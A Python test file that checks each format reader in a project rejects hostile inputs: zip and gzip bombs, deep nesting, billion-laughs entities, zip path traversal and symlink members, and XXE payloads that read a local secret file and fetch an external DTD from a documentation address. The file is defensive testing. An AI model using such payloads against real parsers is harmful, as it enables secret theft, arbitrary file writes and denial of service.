"""Files made to fill a disk or the memory, to write elsewhere or to fetch something: no format does what they ask.

For every format, whether it reads such files or not: a feed is told by its source, and any source may be taken over.
"""

import gzip
import io
import stat
import zipfile

import pytest
from cast import NOW

from misthoorn.formats.registry import FORMATS
from misthoorn.formats.values.schema import FormatError

CANARY = "canary-7719"
UNPACKED = 8 * 1024 * 1024
KINDS = ("events", "advisories", "lifts", "software")
LEVELS = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 12))
BOMBS = (
    "zip 1000:1",
    "zip in a zip",
    "zip that leads outside",
    "zip with a link",
    "gzip 1000:1",
    "gzip in parts",
    "deep lists",
    "deep objects",
    "entities",
    "entities from outside",
    "entities in a workbook",
)
ROOTS = ("nmaprun", "bom", "rss", "Document", "worksheet")


def packed(*members):
    """A zip archive; a member is a name, or a `ZipInfo`, with its bytes."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return made.getvalue()


def link(name, target):
    one = zipfile.ZipInfo(name)
    one.create_system, one.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    return one, str(target)


def xml(root, declared, inside):
    return f'<?xml version="1.0"?><!DOCTYPE {root} [{declared}]><{root}>{inside}</{root}>'.encode()


def workbook(sheet):
    return packed(("[Content_Types].xml", "<Types/>"), ("xl/workbook.xml", sheet), ("xl/worksheets/sheet1.xml", sheet))


@pytest.fixture(scope="module")
def secret(tmp_path_factory):
    path = tmp_path_factory.mktemp("outside") / "secret.txt"
    path.write_text(CANARY, encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def bombs(secret):
    """Each bomb by its name; some of more than one kind."""
    zeros = b"0" * UNPACKED
    thousandfold = packed(("a.csv", b"timestamp,ip\n" + zeros), ("a.json", b'{"a": "' + zeros))
    outside = [(f"{way}{secret.parent}/written.{kind}", "{}") for way in ("", "../" * 12) for kind in ("json", "csv")]
    asked = f'<!ENTITY x SYSTEM "file://{secret}"><!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;'
    made = {
        "zip 1000:1": [thousandfold],
        "zip in a zip": [packed(("inner.zip", thousandfold)), packed(("inner.json", thousandfold))],
        "zip that leads outside": [packed(*outside)],
        "zip with a link": [packed(link("a.json", secret)), packed(link("a.csv", secret))],
        "gzip 1000:1": [gzip.compress(zeros), gzip.compress(b'{"a": "' + zeros)],
        "gzip in parts": [gzip.compress(zeros[: 1024 * 1024]) * 16],
        "deep lists": [b"[" * 200_000],
        "deep objects": [b'{"a":' * 50_000 + b"1" + b"}" * 50_000],
        "entities": [xml(root, f'<!ENTITY l0 "lol">{LEVELS}', "&l11;") for root in ROOTS],
        "entities from outside": [xml(root, asked, "&x;") for root in ROOTS],
        "entities in a workbook": [workbook(xml("worksheet", asked, "&x;"))],
    }
    assert tuple(made) == BOMBS
    return made


def taken_from(format_, data):
    """How many rows are accepted, and all that is said of the others."""
    accepted, said = 0, ""
    try:
        for chunk in FORMATS[format_].read(io.BytesIO(data), name="a.json", now=NOW):
            accepted += next(len(getattr(chunk, kind)) for kind in KINDS if hasattr(chunk, kind))
            said += "".join(f"{row.reason} {row.raw!r}" for row in chunk.refused)
    except FormatError as error:
        said += str(error)
    return accepted, said


@pytest.mark.parametrize("bomb", BOMBS)
@pytest.mark.parametrize("format_", sorted(FORMATS))
def test_nothing_is_read_from_a_bomb_and_nothing_is_written_or_fetched(bombs, secret, format_, bomb):
    for data in bombs[bomb]:
        accepted, said = taken_from(format_, data)

        assert (accepted, bool(said)) == (0, True)
        assert CANARY not in said
    assert [path.name for path in secret.parent.iterdir()] == [secret.name]
